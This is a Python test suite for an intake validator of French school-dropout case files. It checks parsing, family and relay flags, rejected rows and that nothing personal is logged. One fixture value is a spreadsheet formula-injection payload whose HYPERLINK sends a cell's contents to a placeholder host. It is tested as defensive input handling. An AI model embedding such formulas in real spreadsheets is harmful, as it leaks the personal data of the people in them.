"""The sample tree of ../shared/samples gives exactly the outcomes of its README, at intake level."""

from __future__ import annotations

import datetime as dt
import logging
from pathlib import Path

import pytest

from resana_sync.intake import check_file, is_artefact
from resana_sync.records import Severity
from resana_sync.validate import Validation

TODAY = dt.date(2025, 11, 20)
FAMILY_FLAG = "Famille non informée : à vérifier avant la réunion"
RELAIS_FLAG = "Relais MLDS / PSAD à prévoir"


def _check(space: Path, relative: str, schema) -> Validation:
    path = space / "Dépôts" / relative
    return check_file(
        path, schema, display_name=path.name, structure=path.parent.name,
        source_path=f"Dépôts/{relative}", sha256="0" * 64, today=TODAY,
    )


def _by_name(validation: Validation) -> dict[str, dict]:
    return {r.fields["nom"]: {**r.fields, "_flags": r.flags, "_row": r.row_number} for r in validation.records}


def test_every_sample_file_is_either_an_artefact_or_checked(samples_space: Path) -> None:
    names = sorted(p.name for p in (samples_space / "Dépôts").rglob("*") if p.is_file())
    artefacts = sorted(n for n in names if is_artefact(n))
    assert artefacts == sorted([".~lock.Fiches novembre.xlsx#", "~$Fiches novembre.xlsx", ".DS_Store", "Thumbs.db"])


def test_remparts_title_then_header_three_rows(samples_space: Path, schema) -> None:
    result = _check(samples_space, "Collège des Remparts/Fiches novembre.xlsx", schema)
    rows = _by_name(result)
    assert sorted(rows) == ["DUBOIS", "LEROY", "MARTIN"]
    assert result.rejected_rows == 0
    assert rows["DUBOIS"]["date_naissance"] == dt.date(2012, 9, 2)   # typed as text 02/09/2012
    assert rows["DUBOIS"]["motifs"] == ("Exclusion", "Comportement")
    assert rows["LEROY"]["_flags"] == (FAMILY_FLAG,)
    assert rows["MARTIN"]["_flags"] == ()
    assert [rows[n]["_row"] for n in ("MARTIN", "DUBOIS", "LEROY")] == [4, 5, 6]
    assert rows["MARTIN"]["ine"] == "120456789AB"


def test_pjj_vertical_ods_fiche(samples_space: Path, schema) -> None:
    result = _check(samples_space, "PJJ/Situation MARTIN Léa.ods", schema)
    assert len(result.records) == 1 and result.rejected_rows == 0
    fields = result.records[0].fields
    assert (fields["nom"], fields["prenom"], fields["date_naissance"]) == ("Martin", "Lea", dt.date(2011, 3, 14))
    assert fields["famille_informee"] is True
    assert not [p for p in result.problems if p.severity is Severity.ERROR]


def test_centres_sociaux_cp1252_csv_with_label_variants(samples_space: Path, schema) -> None:
    result = _check(samples_space, "Centres sociaux/export_situations.csv", schema)
    rows = _by_name(result)
    assert sorted(rows) == ["FOURNIER", "MOREAU"]
    assert rows["FOURNIER"]["prenom"] == "Chloé-Anne"
    assert rows["FOURNIER"]["etablissement"] == "Collège de l'Arsenal"
    assert rows["MOREAU"]["famille_informee"] is False
    assert rows["MOREAU"]["_flags"] == (FAMILY_FLAG,)
    assert rows["MOREAU"]["situation_scolaire"] == "Scolarisé(e)"
    flag = next(p for p in result.problems if p.severity is Severity.FLAG)
    assert (flag.row, flag.column, flag.value) == (2, "Famille informee", "non")


def test_cmpa_texts_kept_control_character_removed_and_relais_flag(samples_space: Path, schema) -> None:
    result = _check(samples_space, "CMPA/fiche CMPA.xlsx", schema)
    assert len(result.records) == 1
    record = result.records[0]
    assert record.fields["contact_referent"] == '=HYPERLINK("http://example.invalid/?x="&B2,"voir")'
    assert record.fields["actions_engagees"] == "-Relance de la famille"
    assert record.fields["demande"] == "@Coordination"
    assert record.fields["elements"] == "Suivi CMPA interrompu en juin."
    assert record.flags == (RELAIS_FLAG,)


def test_arsenal_hidden_sheet_skipped_two_rows_rejected(samples_space: Path, schema) -> None:
    result = _check(samples_space, "Collège de l'Arsenal/fiches arsenal.xlsx", schema)
    assert [r.fields["nom"] for r in result.records] == ["BERNARD"]
    assert result.records[0].fields["ine"] == "0123456789K"
    assert result.rejected_rows == 2
    errors = [(p.row, p.column, p.code) for p in result.problems if p.severity is Severity.ERROR]
    assert errors == [(3, "Nom", "obligatoire"), (4, "Date de naissance", "date-impossible")]
    impossible = next(p for p in result.problems if p.row == 4)
    assert impossible.value == "31/02/2011"
    assert "fiches arsenal.xlsx, ligne 4, colonne « Date de naissance »" in impossible.message


def test_aemo_legacy_xls(samples_space: Path, schema) -> None:
    result = _check(samples_space, "AEMO/fiche AEMO.xls", schema)
    assert [(r.fields["nom"], r.fields["date_naissance"]) for r in result.records] == [("MOREAU", dt.date(2011, 6, 30))]
    assert result.rejected_rows == 0


@pytest.mark.parametrize("name", ["~$Fiches novembre.xlsx", ".~lock.Fiches novembre.xlsx#", ".DS_Store", "Thumbs.db"])
def test_sample_artefacts_are_ignored(name: str) -> None:
    assert is_artefact(name)


def test_whole_tree_counts(samples_space: Path, schema) -> None:
    accepted = rejected = 0
    for path in sorted((samples_space / "Dépôts").rglob("*")):
        if path.is_file() and not is_artefact(path.name):
            result = _check(samples_space, str(path.relative_to(samples_space / "Dépôts")), schema)
            accepted += len(result.records)
            rejected += result.rejected_rows
    assert (accepted, rejected) == (9, 2)


def test_no_personal_data_or_file_name_is_logged(samples_space: Path, schema, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG, logger="resana_sync")
    for path in sorted((samples_space / "Dépôts").rglob("*")):
        if path.is_file() and not is_artefact(path.name):
            _check(samples_space, str(path.relative_to(samples_space / "Dépôts")), schema)
    logged = "\n".join(record.getMessage() for record in caplog.records)
    for secret in ("MARTIN", "Léa", "DUBOIS", "GIRARD", "BERNARD", "0123456789K", "Fiches novembre", "fiche CMPA", "31/02/2011"):
        assert secret not in logged
    assert not [r for r in caplog.records if r.levelno >= logging.INFO]
